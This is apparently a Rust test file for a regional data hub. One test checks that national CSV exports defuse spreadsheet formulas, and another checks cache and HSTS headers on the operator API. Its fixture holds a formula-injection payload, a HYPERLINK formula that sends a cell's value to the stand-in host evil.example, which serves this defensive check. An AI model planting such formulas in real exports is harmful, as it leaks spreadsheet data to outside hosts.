//! The outside probe's findings that concern the hub (issue #13 §3): formulas in the national
//! CSV exports, and the caching and transport headers of the operator API.

use pico_protocol::payload::Payload;

use crate::support::{OPERATOR_TOKEN, TestApp, appalti};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Apri")"#;

#[tokio::test]
async fn national_csv_neutralises_formulas_a_province_sent() {
    let app = TestApp::spawn().await;
    let mut tv = app.enrolled("026", "treviso");
    let Payload::DatasetBatch(mut batch) = appalti("026", 0, 2) else {
        unreachable!()
    };
    batch.upserts[0][2] = HYPERLINK.to_owned().into();
    batch.upserts[1][2] = "@SUM(1;2)".to_owned().into();
    let entry = tv.next(&Payload::DatasetBatch(batch));
    app.push_ok(&entry).await;
    let (status, csv) = app
        .get_text("/v1/datasets/appalti/rows?format=csv&sep=semicolon")
        .await;
    assert_eq!(status, 200);
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[5].to_owned())
        .collect();
    assert_eq!(
        cells,
        [format!("'{HYPERLINK}"), "'@SUM(1;2)".to_owned()],
        "{csv}"
    );
    // An unknown separator is refused, not silently replaced by a comma.
    let (status, _) = app
        .get_text("/v1/datasets/appalti/rows?format=csv&sep=tab")
        .await;
    assert_eq!(status, 400);
}

#[tokio::test]
async fn operator_answers_are_not_stored_and_https_gets_hsts() {
    let app = TestApp::spawn_with(|config| {
        config.public_url = "https://hub.example.it".to_owned();
    })
    .await;
    let response = app
        .http
        .get(format!("{}/v1/operator/keys", app.url))
        .bearer_auth(OPERATOR_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["cache-control"], "no-store");
    assert_eq!(
        response.headers()["strict-transport-security"],
        "max-age=31536000; includeSubDomains"
    );
    let plain = TestApp::spawn().await;
    let response = plain
        .http
        .get(format!("{}/v1/operator/keys", plain.url))
        .bearer_auth(OPERATOR_TOKEN)
        .send()
        .await
        .unwrap();
    assert!(
        response
            .headers()
            .get("strict-transport-security")
            .is_none()
    );
    assert_eq!(response.headers()["cache-control"], "no-store");
}
